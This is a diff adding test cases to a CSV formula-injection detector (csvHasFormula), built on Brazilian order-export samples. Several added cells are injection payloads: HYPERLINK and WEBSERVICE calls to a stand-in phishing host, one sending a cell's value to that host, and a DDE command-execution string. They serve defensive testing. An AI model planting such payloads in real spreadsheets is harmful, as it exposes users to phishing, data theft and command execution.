@@ -34,6 +34,15 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
       'a remote call in a quoted cell, after a reference',
       'pedido;cliente\n1057;"-A1&FILTERXML(WEBSERVICE(""http://golpe.example/?""&B2);""//a"")"\n',
     ],
+    // A link to a phishing page, wherever it sits in a signed cell, in any case.
+    ['a link inside brackets', 'pedido;link\n1058;+(HYPERLINK("http://golpe.example/login";"Ver pedido"))\n'],
+    ['a link after a string', 'pedido;link\n1059;-"pedido"&HYPERLINK("http://golpe.example/login")\n'],
+    ['a link after a cell reference, quoted', 'pedido;link\n1060;"@A1&HIPERLINK(""http://golpe.example/login"")"\n'],
+    ['a link in lower case after a space', 'pedido;link\n1061;- hyperlink("http://golpe.example/login")\n'],
+    ['a remote call followed by a word', 'pedido;link\n1062;+WEBSERVICE("http://golpe.example/?c="&B2) x\n'],
+    ['a function in capitals closing the cell', 'pedido;total\n1063;-SUM(A1:A3)\n'],
+    ['a function in capitals, nested, then an operator', 'pedido;total\n1064;+ROUND(SUM(A1:A3),2)*2\n'],
+    ['a DDE link in lower case after an at sign', "pedido;valor\n1065;@cmd|' /C calc'!A0\n"],
   ])('%s', (_name, text) => {
     expect(csvHasFormula(text)).toBe(true);
   });
@@ -53,6 +62,16 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a negative value, then sizes with bars in the next cell', 'valor,tamanhos\n-15,P|M|G\n'],
     ['a negative value, then a remote call written as text in the next cell', 'valor;nota\n-15,00;WEBSERVICE(x)\n'],
     ['a quoted text after a sign, with quotes and separators in it', 'nota\n"- ver ""pedido""; frete, (ida)"\n'],
+    // A merchant's list in a cell: a sign, then words with brackets (Bling, Shopee, Mercado Livre exports).
+    ['a dash, a space and words with brackets', 'pedido;itens;qtd\n250001;- produto(s) sem estoque;2\n'],
+    ['a plus, a space and words with brackets', 'pedido;observação\n7781;+ brinde(s) na caixa\n'],
+    ['a dash, a quantity and words with brackets', 'ajuste\n- 2 unidade(s) devolvida(s)\n'],
+    ['a dash stuck to a word with brackets', 'status\n-cancelado(a) pelo cliente\n'],
+    ['a plus stuck to a brand with brackets', 'marca\n+Vida(Natural)\n'],
+    ['a handle with brackets', 'loja\n@loja(oficial)\n'],
+    ['a list in capitals', 'pedido;itens\n1;- PRODUTO(S) SEM ESTOQUE\n2;+ BRINDE(S) NA CAIXA\n3;-CAMISETA(P) AZUL\n'],
+    ['a quoted list with brackets and separators', 'pedido;nota\n88;"- produto(s) sem estoque; aguardando"\n'],
+    ['a tab-separated list with brackets', 'pedido\tvalor\tobs\n1\t-19,90\t- produto(s) sem estoque\n'],
     ['empty', ''],
   ])('%s: no formula', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
@@ -88,6 +107,8 @@ describe('csvHasFormula: bounded work on hostile shapes', () => {
     ['a sign before a quoted cell as long as an upload', `+"${'a'.repeat(10_000_000)}"\n`],
     ['quoted signed cells, one after another', `${';"+a'.repeat(1_000_000)}\n`],
     ['signed cells whose quotes never close', `${'"-'.repeat(1_000_000)}`],
+    ['lists in capitals on one line', `${';- PRODUTO(S) SEM ESTOQUE'.repeat(300_000)}\n`],
+    ['a bracket closed before a run of spaces', `-X(S)${' '.repeat(2_000_000)}x\n`],
   ])('%s: no formula, read in linear time', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
   });
